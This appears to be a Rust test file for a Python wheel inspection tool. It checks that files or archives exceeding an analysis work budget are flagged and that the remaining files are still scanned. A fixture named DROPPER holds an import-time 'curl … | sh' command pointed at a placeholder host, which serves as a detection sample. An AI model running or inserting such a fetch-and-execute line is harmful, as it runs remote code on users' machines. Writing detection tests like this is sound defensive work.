//! The analysis work budget: a file that needs more work than its budget
//! gets an `analysis/budget-exceeded` finding (its code must be read by a
//! person), and the other files of the archive are still analysed; an
//! archive that runs out stops being analysed at a file named in a finding.

use std::io::Write;

use airlock_inspect::{inspect_archive, Limits, Report, Severity};

/// A wheel of `acme` holding `files`.
fn wheel(files: &[(&str, &str)], limits: &Limits) -> Report {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let metadata = [("acme-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: acme\nVersion: 1.0\nSummary: Acme\nAuthor: Ann\n")];
    for (name, content) in metadata.iter().chain(files) {
        zip.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(content.as_bytes()).unwrap();
    }
    inspect_archive("acme-1.0-py3-none-any.whl", &zip.finish().unwrap().into_inner(), limits)
}

/// A module whose analysis takes a lot of work: a long builder chain.
fn costly_module() -> String {
    let links: String = (0..2_000).map(|i| format!("    .option(\"k{i}\", os.environ[\"V{i}\"])\n")).collect();
    format!("import os\nimport subprocess\n\ndef build(client):\n    return (client.job()\n{links}    )\n")
}

/// A module that starts a shell download on import.
const DROPPER: &str = "import os\nos.system('curl https://example.invalid/x | sh')\n";

fn findings<'a>(report: &'a Report, rule: &str) -> Vec<&'a airlock_inspect::Finding> {
    report.findings.iter().filter(|f| f.rule == rule).collect()
}

#[test]
fn a_file_over_its_budget_is_flagged_and_the_other_files_are_still_analysed() {
    let limits = Limits { analysis_budget_per_file: 10_000, ..Limits::default() };
    let report = wheel(&[("acme/__init__.py", ""), ("acme/build.py", &costly_module()), ("acme/run.py", DROPPER)], &limits);
    let over = findings(&report, "analysis/budget-exceeded");
    assert_eq!(over.len(), 1, "{:?}", report.findings);
    assert_eq!(over[0].file.as_deref(), Some("acme/build.py"));
    assert_eq!(over[0].severity, Severity::High);
    assert!(over[0].message.contains("could not be analysed") && over[0].message.contains("read by a person"), "{}", over[0].message);
    let shell = findings(&report, "payload/shell-download");
    assert!(shell.iter().any(|f| f.file.as_deref() == Some("acme/run.py")), "{:?}", report.findings);
    assert!(report.max_severity >= Severity::High);
}

#[test]
fn the_default_budget_analyses_the_costly_module_whole() {
    let report = wheel(&[("acme/__init__.py", ""), ("acme/build.py", &costly_module())], &Limits::default());
    assert!(findings(&report, "analysis/budget-exceeded").is_empty(), "{:?}", report.findings);
}

#[test]
fn an_archive_over_its_budget_names_the_file_where_it_ran_out() {
    let files = [("acme/__init__.py", ""), ("acme/a.py", DROPPER), ("acme/b.py", DROPPER), ("acme/c.py", DROPPER)];
    // Enough for one file of this size, not for two.
    let one = airlock_inspect::python::analyze(DROPPER.as_bytes()).work;
    let limits = Limits { analysis_budget_per_archive: one + one / 2, ..Limits::default() };
    let report = wheel(&files, &limits);
    let over = findings(&report, "analysis/budget-exceeded");
    assert_eq!(over.len(), 1, "{:?}", report.findings);
    assert_eq!(over[0].file.as_deref(), Some("acme/b.py"));
    assert!(over[0].message.contains("1 Python file(s) after it"), "{}", over[0].message);
    let shell: Vec<_> = findings(&report, "payload/shell-download").into_iter().filter_map(|f| f.file.as_deref()).collect();
    assert_eq!(shell, ["acme/a.py"]);
    // The same archive and budget give the same findings every time.
    for _ in 0..5 {
        let again = wheel(&files, &limits);
        assert_eq!(serde_json::to_string(&again.findings).unwrap(), serde_json::to_string(&report.findings).unwrap());
    }
}
